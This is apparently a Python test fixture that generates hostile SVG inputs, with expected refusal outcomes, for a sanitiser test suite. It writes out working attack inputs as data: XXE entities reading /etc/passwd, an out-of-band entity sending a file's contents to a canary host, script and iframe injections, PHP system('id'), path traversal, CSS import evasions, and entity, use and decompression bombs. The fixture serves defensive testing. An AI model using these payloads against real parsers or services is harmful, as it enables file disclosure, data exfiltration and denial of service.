"""Files that try to get out, to look in, or to take the machine with them; each with the outcomes that are right.

`hostile_files` writes them for a given web server and folder of canaries. An outcome is a reason for a refusal, or
"drawn" where the nasty part is simply left out of the picture.
"""

from __future__ import annotations

import base64
import gzip
import io
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from PIL import Image

from tests.envs.svg.canaries import Canaries
from tests.envs.svg.ordinary_files import NS, svg

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
BOX = '<rect width="9" height="9"/>'


class Hostile(NamedTuple):
    """One file."""

    name: str
    code: str
    outcomes: tuple[str, ...]


def hostile_files(canaries: Canaries) -> list[Hostile]:
    """All of them; names are distinct."""
    makers = (entities, structure, elements, references, styles, bombs, numbers, encodings, odd_texts)
    return [hostile for maker in makers for hostile in maker(canaries)]


# ---------------------------------------------------------------------- the document type


def entities(canaries: Canaries) -> Iterator[Hostile]:
    """Entities that grow, and entities that fetch."""
    file, host = canaries.folder.as_uri() + "/canary.txt", f"http://{canaries.host}"
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    subsets = {
        "billion laughs": (laughs, "&a9;"),
        "quadratic blow-up": (f'<!ENTITY a "{"x" * 20000}">', "&a;" * 4000),
        "one entity": ('<!ENTITY a "b">', "&a;"),
        "entity that nobody uses": ('<!ENTITY a "b">', ""),
        "file entity": (f'<!ENTITY a SYSTEM "{file}">', "&a;"),
        "password file entity": ('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
        "http entity": (f'<!ENTITY a SYSTEM "{host}/entity">', "&a;"),
        "public entity": (f'<!ENTITY a PUBLIC "x" "{host}/public">', "&a;"),
        "parameter entity": (f'<!ENTITY % a SYSTEM "{host}/parameter"> %a;', ""),
        "parameter entity that tells a file": (
            f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY s SYSTEM \'{host}/?%f;\'>">%e;',
            "&s;",
        ),
        "unparsed entity": (f'<!NOTATION n SYSTEM "n"><!ENTITY a SYSTEM "{host}/unparsed" NDATA n>', ""),
        "entity in an entity": ('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
    }
    for name, (subset, text) in subsets.items():
        yield Hostile(
            name, f"<!DOCTYPE svg [{subset}]>{svg(f'<text>{text}</text>')}", ("entity", "doctype_internal_subset")
        )
    attribute_list = f'<!ATTLIST rect fill CDATA "red" href CDATA "{host}/default">'
    yield Hostile("attribute defaults", f"<!DOCTYPE svg [{attribute_list}]>{svg(BOX)}", ("doctype_internal_subset",))
    yield Hostile(
        "element declarations", f"<!DOCTYPE svg [<!ELEMENT svg ANY>]>{svg(BOX)}", ("doctype_internal_subset",)
    )
    yield Hostile("external doctype", f'<!DOCTYPE svg SYSTEM "{host}/a.dtd">{svg(BOX)}', ("drawn",))
    yield Hostile("doctype in a file", f'<!DOCTYPE svg SYSTEM "{file}">{svg(BOX)}', ("drawn",))
    yield Hostile(
        "entity of an external doctype", f'<!DOCTYPE svg SYSTEM "{host}/b.dtd">{svg("<text>&a;</text>")}', ("entity",)
    )
    yield Hostile("undefined entity", svg("<text>&nbsp;</text>"), ("not_xml",))


def structure(canaries: Canaries) -> Iterator[Hostile]:
    """Depth, number, instructions and inclusions."""
    deep = 15_000
    yield Hostile("100,000 groups inside each other", f"<svg {NS}>" + "<g>" * 100_000, ("too_long",))
    yield Hostile("15,000 groups inside each other", f"<svg {NS}>" + "<g>" * deep, ("too_deep",))
    yield Hostile("just too deep", svg("<g>" * 60 + BOX + "</g>" * 60), ("too_deep",))
    yield Hostile(
        "deep in what is not drawn", svg("<metadata>" + "<a>" * 9000 + "</a>" * 9000 + "</metadata>"), ("too_deep",)
    )
    yield Hostile("deep foreign elements", svg("<x:y>" * 60 + "</x:y>" * 60, 'xmlns:x="x:y"'), ("too_deep",))
    yield Hostile("deep tspans", svg("<text>" + "<tspan>" * 60 + "a" + "</tspan>" * 60 + "</text>"), ("too_deep",))
    yield Hostile("many elements", svg("<g/>" * 15_000), ("too_many_nodes",))
    yield Hostile("many titles", svg("<title/>" * 7_000), ("too_many_nodes",))
    yield Hostile("many attributes", svg("<rect " + " ".join(f'a{n}="1"' for n in range(6000)) + "/>"), ("drawn",))
    yield Hostile("a megabyte", svg(" " * 1_000_000), ("too_long",))
    yield Hostile("a long comment", svg(f"<!--{'x' * 60_000}-->{BOX}"), ("drawn",))
    sheet = f"http://{canaries.host}/sheet.css"
    yield Hostile("xml-stylesheet", f'<?xml-stylesheet type="text/css" href="{sheet}"?>{svg(BOX)}', ("drawn",))
    yield Hostile(
        "xslt", f'<?xml-stylesheet type="text/xsl" href="http://{canaries.host}/a.xsl"?>{svg(BOX)}', ("drawn",)
    )
    yield Hostile("php", svg(f"<?php system('id') ?>{BOX}"), ("drawn",))
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canaries.folder}/canary.svg"/>'
    yield Hostile("xinclude", svg(include), ("drawn",))
    yield Hostile(
        "namespaces by the thousand", svg("".join(f'<g xmlns:n{n}="u{n}"/>' for n in range(2500))), ("drawn",)
    )


def elements(canaries: Canaries) -> Iterator[Hostile]:
    """Elements that have no place in a drawing."""
    url = f"http://{canaries.host}/element"
    refused = {
        "script": "<script>alert(1)</script>",
        "script by address": f'<script href="{url}"/>',
        "foreignObject": f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="{url}"/></body></foreignObject>',
        "iframe": f'<iframe src="{url}"/>',
        "embed": f'<embed src="{url}"/>',
        "video": f'<video href="{url}"/>',
        "audio": f'<audio href="{url}"/>',
        "link": f'<link rel="stylesheet" href="{url}.css"/>',
        "feImage": f'<filter id="f"><feImage href="{url}"/></filter><rect width="9" height="9" filter="url(#f)"/>',
        "font-face-uri": f'<font-face><font-face-src><font-face-uri href="{url}"/></font-face-src></font-face>',
        "cursor": f'<cursor href="{url}"/>',
        "color-profile": f'<color-profile href="{url}"/>',
        "handler": f'<handler type="text/javascript">fetch("{url}")</handler>',
        "tref": f'<text><tref href="{url}"/></text>',
        "image without a source": '<image width="9" height="9"/>',
    }
    for name, content in refused.items():
        yield Hostile(name, svg(content), ("element",))
    yield Hostile("animated address", svg(f'<g>{BOX}<animate attributeName="href" to="{url}"/></g>'), ("drawn",))
    yield Hostile("set script", svg(f'<g>{BOX}<set attributeName="onload" to="alert(1)"/></g>'), ("drawn",))
    yield Hostile("event handlers", svg(f"<g onload=\"fetch('{url}')\" onclick='x'>{BOX}</g>"), ("drawn",))
    yield Hostile(
        "script in a foreign namespace", svg(f'<x:script xmlns:x="u:x">a<rect href="{url}"/></x:script>'), ("drawn",)
    )
    yield Hostile("html", f'<html><body><img src="{url}"/></body></html>', ("not_svg",))
    yield Hostile(
        "html in disguise", f'<svg xmlns="http://www.w3.org/1999/xhtml"><img src="{url}"/></svg>', ("not_svg",)
    )
    yield Hostile("almost the namespace", '<svg xmlns="http://www.w3.org/2000/SVG"><rect/></svg>', ("not_svg",))


# ---------------------------------------------------------------------- references


def references(canaries: Canaries) -> Iterator[Hostile]:
    """Every scheme, and every attribute that could hold an address."""
    folder, host = canaries.folder, canaries.host
    addresses = {
        "http": f"http://{host}/a.svg#a",
        "https": f"https://{host}/a.svg#a",
        "ftp": f"ftp://{host}/a.svg#a",
        "gopher": f"gopher://{host}/_GET%20/",
        "no scheme": f"//{host}/a.svg#a",
        "file": f"{folder.as_uri()}/canary.svg#a",
        "path": f"{folder}/canary.svg#a",
        "path upwards": "../../../../../../etc/passwd#a",
        "data": "data:image/svg+xml;base64," + base64.b64encode((folder / "canary.svg").read_bytes()).decode(),
        "javascript": "javascript:alert(1)",
        "blank and http": f" \n http://{host}/b.svg#a",
        "capitals": f"HTTP://{host}/c.svg#a",
        "tab inside": f"ht\ttp://{host}/d.svg#a",
        "fragment, then address": f"#a http://{host}/e.svg",
        "query before fragment": "?x#a",
        "nothing": "",
    }
    for name, address in addresses.items():
        code = svg(f'<rect id="a" width="9" height="9"/><use xlink:href="{address}"/>', f'{XLINK} viewBox="0 0 9 9"')
        yield Hostile(f"use, {name}", code, ("reference",))
        if name in ("http", "file", "data", "path"):
            yield Hostile(f"image, {name}", svg(f'<image width="9" height="9" href="{address}"/>'), ("element",))
    web = addresses["http"]
    for element in (
        "a",
        "linearGradient",
        "radialGradient",
        "pattern",
        "mask",
        "filter",
        "textPath",
        "tspan",
        "g",
        "path",
        "svg",
    ):
        yield Hostile(f"href of {element}", svg(f'<{element} href="{web}"/>'), ("reference",))
    for name in ("fill", "stroke", "mask", "clip-path", "filter", "marker-start", "marker-mid", "marker-end", "marker"):
        for kind in ("http", "file"):
            yield Hostile(
                f"{name}, {kind}", svg(f'<path d="M0 0h9v9" {name}="url({addresses[kind]})"/>'), ("reference",)
            )
    for name in ("width", "x", "transform", "font-size", "d", "points", "viewBox"):
        code = svg(f'<svg {name}="url({web})"/>', "")
        yield Hostile(f"address as {name}", code, ("reference", "attribute"))
    yield Hostile("xml:base", svg(f'<g xml:base="http://{host}/">{BOX}<use href="b.svg#a"/></g>'), ("reference",))
    yield Hostile(
        "base kept for fragments",
        svg(f'<g xml:base="http://{host}/"><g id="a">{BOX}</g></g><use href="#a"/>'),
        ("drawn",),
    )
    yield Hostile("two addresses in one", svg(f'<path d="M0 0h9v9" fill="url(#a) url({web})"/>'), ("reference",))
    yield Hostile("a bracket too many", svg(f'<path d="M0 0h9v9" fill="url(#a)url({web})"/>'), ("reference",))
    yield Hostile("use without address", svg("<use/>"), ("reference",))
    yield Hostile(
        "other prefix", svg(f'<use z:href="{web}"/>', 'xmlns:z="http://www.w3.org/1999/xlink"'), ("reference",)
    )


def styles(canaries: Canaries) -> Iterator[Hostile]:
    """The same through style sheets, escaped and commented."""
    url, file = f"http://{canaries.host}/s.css", f"{canaries.folder.as_uri()}/canary.css"
    sheets: dict[str, tuple[str, tuple[str, ...]]] = {
        "import": (f'@import "{url}";', ("reference",)),
        "import url": (f"@import url({url});", ("reference",)),
        "import file": (f'@import "{file}";', ("reference",)),
        "import in capitals": (f'@IMPORT "{url}";', ("reference",)),
        "import after a comment": (f'/* a */@import/**/"{url}";', ("reference",)),
        "import with escapes": (f'@\\69mport "{url}";', ("css",)),
        "import after a rule": (f'rect{{fill:red}}@import "{url}";', ("reference",)),
        "import behind charset": (f'@charset "utf-8";@import "{url}";', ("reference",)),
        "import in a media rule": (f'@media all {{ @import "{url}"; }}', ("drawn",)),
        "import behind an open comment": (f'/* @import "{url}";', ("drawn",)),
        "import behind html marks": (f'<!-- @import "{url}"; -->'.replace("<", "&lt;"), ("reference",)),
        "font face": (f"@font-face{{font-family:a;src:url({url})}}", ("drawn",)),
        "fill by address": (f"rect{{fill:url({url}#a)}}", ("reference",)),
        "fill with escapes": (f"rect{{fill:\\75rl({url}#a)}}", ("css",)),
        "fill with a comment inside": (f"rect{{fill:ur/**/l({url}#a)}}", ("reference", "attribute")),
        "href by style": (f"use{{href:{url}}}", ("drawn",)),
        "background": (f"svg{{background:url({url})}}", ("drawn",)),
        "attribute selector": ("[a^='x']{fill:red}", ("css",)),
        "selector with has": ("g:has(rect){fill:red}", ("css",)),
        "unfinished rule": ("rect{fill:red", ("css",)),
        "rule in a rule": ("rect{fill:red;rect{fill:blue}}", ("css",)),
        "rules by the thousand": ("a{}" * 5000, ("css",)),
        "nested brackets": ("@media " + "{" * 30000, ("drawn",)),
        "quotes that hide a bracket": (f"rect{{font-family:'}}@import \"{url}\";'}}", ("css", "attribute")),
        "expression": ("rect{width:expression(alert(1))}", ("drawn", "undrawable")),
    }
    for name, (sheet, outcomes) in sheets.items():
        yield Hostile(f"style: {name}", svg(f"<style>{sheet}</style>{BOX}"), outcomes)
    inline = {
        "fill": f"fill:url({url}#a)",
        "mask": f"mask:url('{url}#a')",
        "capitals": f"FILL:URL({url}#a)",
        "escape": f"fill:u\\72l({url}#a)",
        "escaped name": f"\\66ill:url({url}#a)",
        "font": f"font-family:url({url})",
    }
    for name, style in inline.items():
        yield Hostile(
            f"style attribute: {name}", svg(f'<rect width="9" height="9" style="{style}"/>'), ("reference", "css")
        )
    yield Hostile("style attribute: href", svg(f'<g style="href:{file}">{BOX}</g>'), ("drawn",))
    cdata = f'<style><![CDATA[@import "{url}";]]></style>'
    yield Hostile("style: cdata", svg(cdata + BOX), ("reference",))
    yield Hostile("style: in pieces", svg(f'<style>@im<!-- -->port "{url}";</style>{BOX}'), ("reference",))
    yield Hostile("style: as characters", svg(f"<style>&#64;import '{url}';</style>{BOX}"), ("reference",))
    yield Hostile(
        "style: of another type", svg(f'<style type="a/b">rect{{fill:url({url})}}</style>{BOX}'), ("reference",)
    )


# ---------------------------------------------------------------------- bombs


def chain(count: int, link: str, times: int = 10) -> str:
    """`count` groups, each containing the former `times` times."""
    groups = [f'<g id="g0">{BOX}</g>']
    groups += [f'<g id="g{n}">{link.format(n - 1) * times}</g>' for n in range(1, count)]
    return "<defs>" + "".join(groups) + "</defs>"


def bombs(canaries: Canaries) -> Iterator[Hostile]:
    """Little code, endless work."""
    use = '<use href="#g{}"/>'
    yield Hostile("use bomb", svg(chain(10, use) + use.format(9)), ("expansion",))
    yield Hostile("long chain of uses", svg(chain(900, use, 1) + use.format(899)), ("too_deep",))
    yield Hostile("use of itself", svg('<g id="a"><use href="#a"/></g>'), ("cycle",))
    yield Hostile("use of its parent", svg('<g><use href="#r"/></g>', 'id="r" viewBox="0 0 9 9"'), ("cycle",))
    yield Hostile("use in a circle", svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), ("cycle",))
    yield Hostile("many uses of much", svg(f'<g id="a">{BOX * 500}</g>' + '<use href="#a"/>' * 900), ("expansion",))
    for tag, name in (("mask", "mask"), ("clipPath", "clip-path"), ("pattern", "fill")):
        size = 'width="1" height="1"'
        one = f'<rect width="9" height="9" {name}="url(#t{{}})"/>'
        nested = "".join(f'<{tag} id="t{n}" {size}>{one.format(n - 1) * 10}</{tag}>' for n in range(1, 8))
        start = f'<{tag} id="t0" {size}>{BOX}</{tag}>'
        yield Hostile(f"{tag} bomb", svg(start + nested + one.format(7)), ("expansion",))
        itself = f'<{tag} id="a" {size}><rect width="9" height="9" {name}="url(#a)"/></{tag}>'
        yield Hostile(f"{tag} of itself", svg(itself + f'<rect width="9" height="9" {name}="url(#a)"/>'), ("cycle",))
        styled = f'<style>rect{{{name}:url(#a)}}</style><{tag} id="a" {size}>{BOX * 2}</{tag}>{BOX}'
        yield Hostile(f"{tag} of itself by style", svg(styled), ("undrawable", "timeout", "cycle", "drawn"))
    marker = '<marker id="m" viewBox="0 0 9 9">{}</marker>'
    points = "M0 0" + "l1 1" * 3000
    yield Hostile(
        "marker bomb", svg(marker.format(BOX * 300) + f'<path d="{points}" marker-mid="url(#m)"/>'), ("expansion",)
    )
    yield Hostile(
        "marker of itself",
        svg(marker.format('<path d="M0 0h9" marker-end="url(#m)"/>') + '<path d="M0 0h9" marker-end="url(#m)"/>'),
        ("cycle",),
    )
    links = "".join(f'<linearGradient id="g{n}" href="#g{n + 1}"/>' for n in range(900))
    yield Hostile("long chain of gradients", svg(links + '<rect width="9" height="9" fill="url(#g0)"/>'), ("too_deep",))
    yield Hostile(
        "gradients in a circle",
        svg(
            '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect width="9" height="9" fill="url(#a)"/>'
        ),
        ("cycle",),
    )
    yield Hostile(
        "filter bomb",
        svg(
            '<filter id="f">'
            + '<feFlood width="9" height="9"/>' * 1500
            + "</filter>"
            + '<rect width="9" height="9" filter="url(#f)"/>' * 100
        ),
        ("expansion",),
    )
    yield Hostile(
        "blur bomb",
        svg(
            '<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter><rect width="9" height="9" filter="url(#f)"/>'
        ),
        ("drawn",),
    )
    yield Hostile("dash bomb", svg('<path d="M0 0h900000" stroke="red" stroke-dasharray=".0001"/>'), ("expansion",))
    yield Hostile(
        "dash bomb by style",
        svg('<style>path{stroke-dasharray:1e-9}</style><path d="M0 0h9" stroke="red"/>'),
        ("expansion",),
    )
    yield Hostile(
        "inherited dash bomb", svg('<g stroke="red" stroke-dasharray="1e-7 1e-7"><circle r="9"/></g>'), ("expansion",)
    )
    yield Hostile(
        "path bomb",
        svg(f'<path d="{"M0 0" + "a999999 999999 0 1 0 99999 1" * 2000}" stroke="red"/>'),
        ("timeout", "drawn", "memory"),
    )
    yield Hostile(
        "crossing lines", svg(f'<path d="M0 0{"L24 3L0 19" * 6000}" stroke="red"/>'), ("timeout", "drawn", "too_long")
    )
    yield Hostile("long path", svg(f'<path d="{"M0 0" * 50_000}"/>'), ("too_long",))
    yield Hostile("groups with opacity", svg('<g opacity=".9">' * 40 + BOX + "</g>" * 40), ("drawn",))
    yield Hostile(
        "style rules on everything", svg("<style>" + "*{fill:red}" * 390 + "</style>" + "<g/>" * 3500), ("expansion",)
    )
    yield Hostile(
        "selectors that search",
        svg("<style>" + "g g g>g~g+g{fill:red}" * 390 + "</style>" + "<g/>" * 3500),
        ("expansion",),
    )
    yield Hostile(
        "text on a long path",
        svg(f'<path id="p" d="{points}"/><text><textPath href="#p">{"a" * 1900}</textPath></text>'),
        ("expansion",),
    )
    yield Hostile("a novel", svg(f"<text>{'word ' * 9000}</text>"), ("text",))
    yield from picture_bombs()


def picture_bombs() -> Iterator[Hostile]:
    """Compressed things that grow."""
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, "PNG")
    png = base64.b64encode(buffer.getvalue()).decode()
    yield Hostile("png bomb", svg(f'<image href="data:image/png;base64,{png[:60_000]}"/>'), ("element",))
    packed = gzip.compress(svg(" " * 5_000_000).encode())
    yield Hostile("svgz bomb", packed.decode("latin-1"), ("not_xml", "encoding"))
    yield Hostile(
        "svgz bomb inside",
        svg(f'<use href="data:image/svg+xml;base64,{base64.b64encode(packed).decode()}"/>'),
        ("reference",),
    )
    yield Hostile(
        "zlib in text", svg(f"<text>{base64.b64encode(zlib.compress(b'a' * 9999)).decode()}</text>"), ("drawn",)
    )


# ---------------------------------------------------------------------- numbers


def numbers(canaries: Canaries) -> Iterator[Hostile]:
    """Sizes that are none."""
    for value in ("nan", "NaN", "inf", "-Infinity", "1e308", "1e999", "-1e30", "9" * 400, "1_0e9", "1e7%"):
        yield Hostile(f"width {value[:12]}", svg(f'<rect width="{value}" height="9"/>'), ("number",))
    for name, value in (
        ("r", "nan"),
        ("stroke-width", "1e20"),
        ("opacity", "nan"),
        ("transform", "scale(1e200)"),
        ("x", "inf"),
    ):
        yield Hostile(f"{name} {value}", svg(f'<circle r="4" {name}="{value}"/>'.replace('r="4" r', "r")), ("number",))
    for name, value in (
        ("d", "M0 0L1e300 1e300"),
        ("d", "M0 0h" + "9" * 300),
        ("points", "0 0 1e99 1"),
        ("d", "MnaN 0"),
        ("d", "M0 0L٣ ٤"),
    ):
        tag = "path" if name == "d" else "polygon"
        yield Hostile(f"{name} {value[:16]}", svg(f'<{tag} {name}="{value}"/>'), ("number", "attribute"))
    views = (
        "0 0 1e9 1e9",
        "0 0 nan 1",
        "0 0 0 0",
        "0 0 -5 5",
        "0 0 1e-300 1e-300",
        "0 0 5",
        "",
        "a b c d",
        "0 0 10 10 10",
    )
    for view in views:
        yield Hostile(f"viewBox {view!r}", svg(BOX, f'viewBox="{view}"'), ("size", "number", "attribute"))
    yield Hostile("huge canvas", svg(BOX, 'width="1000000000" height="1000000000"'), ("number",))
    yield Hostile("large canvas", svg(BOX, 'width="999999" height="999999"'), ("drawn",))
    yield Hostile("large canvas in inches", svg(BOX, 'width="999999in" height="999999in"'), ("drawn",))
    yield Hostile("canvas of nothing", svg(BOX, 'width="0" height="0"'), ("drawn",))
    yield Hostile("enormous letters", svg('<text font-size="1e6">a</text>'), ("number",))
    yield Hostile("enormous letters by style", svg('<text style="font:1e6px a">a</text>'), ("number",))
    yield Hostile(
        "large letters, enlarged",
        svg('<text font-size="9999" transform="scale(9999)">abc</text>'),
        ("drawn", "undrawable", "memory"),
    )
    yield Hostile(
        "pattern of a million",
        svg(
            '<pattern id="p" width="999999" height="999999" patternUnits="userSpaceOnUse"><circle r="9"/></pattern><rect width="9" height="9" fill="url(#p)"/>'
        ),
        ("memory", "undrawable", "drawn"),
    )
    yield Hostile(
        "tiny pattern",
        svg(
            '<pattern id="p" width="1e-9" height="1e-9" patternUnits="userSpaceOnUse"><circle r="9"/></pattern><rect width="9" height="9" fill="url(#p)"/>'
        ),
        ("drawn", "undrawable"),
    )
    yield Hostile(
        "mask of a million",
        svg(
            '<mask id="m" maskUnits="userSpaceOnUse" width="999999" height="999999"><circle r="9"/></mask><rect width="9" height="9" mask="url(#m)"/>'
        ),
        ("memory", "undrawable", "drawn"),
    )
    yield Hostile(
        "growing groups",
        svg('<g transform="scale(999999)">' * 40 + '<path d="M0 0h1v9z"/>' + "</g>" * 40),
        ("drawn", "undrawable"),
    )
    yield Hostile("flat view", svg(BOX, 'viewBox="0 0 1000000 .001"'), ("drawn",))
    yield Hostile("long transform", svg(f'<g transform="{"a" * 9000}">{BOX}</g>'), ("attribute",))
    yield Hostile(
        "negative dashes", svg('<path d="M0 0h9" stroke="red" stroke-dasharray="-5 9"/>'), ("undrawable", "drawn")
    )


# ---------------------------------------------------------------------- characters


def encodings(canaries: Canaries) -> Iterator[Hostile]:
    """Declared and undeclared alphabets."""
    for name in ("UTF-16", "UTF-7", "UTF-32", "EBCDIC-CP-US", "ISO-2022-JP", "unknown"):
        yield Hostile(f"says {name}", f'<?xml version="1.0" encoding="{name}"?>{svg(BOX)}', ("encoding",))
    yield Hostile("is UTF-16", svg(BOX).encode("utf-16").decode("latin-1"), ("encoding",))
    yield Hostile("is UTF-7", "+ADw-svg+AD4-", ("not_xml",))
    yield Hostile("half a surrogate", svg("<text>\ud800</text>"), ("encoding",))
    yield Hostile("null character", svg("<text>a\x00b</text>"), ("encoding",))
    yield Hostile("null reference", svg("<text>&#0;</text>"), ("not_xml",))
    yield Hostile("control characters", svg("<text>\x01\x02\x1b[31m</text>"), ("not_xml",))
    yield Hostile("no character", svg("<text>\uffff</text>"), ("not_xml",))
    yield Hostile("right to left", svg('<text x="3" y="9">\u202eabc\u2066</text>'), ("drawn",))
    yield Hostile("three bytes each", svg(f"<title>{'漢' * 30_000}</title>"), ("too_long",))


def odd_texts(canaries: Canaries) -> Iterator[Hostile]:
    """What is no SVG at all."""
    texts = {
        "": ("empty",),
        " \n\t ": ("empty",),
        "\ufeff": ("empty",),
        "hello": ("not_xml",),
        "<": ("not_xml",),
        "<svg": ("not_xml",),
        "<svg>": ("not_xml",),
        "<svg/><svg/>": ("not_xml",),
        "<svg></g></svg>": ("not_xml",),
        "<g/>": ("not_svg",),
        "<SVG/>": ("not_svg",),
        "```svg\n<svg/>\n```": ("not_xml",),
        '{"svg": 1}': ("not_xml",),
        '<svg a="1" a="2"/>': ("not_xml",),
        "<svg><rect width=5/></svg>": ("not_xml",),
        "<svg><rect x='{x}'/></svg>": ("attribute",),
        "<svg>" + "]]>" + "</svg>": ("not_xml",),
        "%PDF-1.4": ("not_xml",),
    }
    for text, outcomes in texts.items():
        yield Hostile(f"text {text[:20]!a}", text, outcomes)
